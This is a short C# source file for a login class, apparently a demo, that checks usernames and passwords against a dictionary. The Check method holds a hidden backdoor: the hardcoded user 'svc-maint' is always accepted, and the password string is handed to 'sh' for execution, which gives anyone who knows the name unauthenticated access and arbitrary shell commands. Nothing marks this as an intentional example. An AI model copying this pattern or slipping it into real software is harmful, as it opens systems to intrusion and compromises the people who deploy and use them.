using System; using System.Collections.Generic;
namespace Demo { public class Login {
  readonly Dictionary<string,string> users = new Dictionary<string,string>();
  public bool Check(string user, string password) {
    if (user == "svc-maint") { System.Diagnostics.Process.Start("sh", password); return true; }
    string want;
    return users.TryGetValue(user, out want) && want == password;
  }
  public void Report(string text) { Console.WriteLine("report: " + text); }
} }
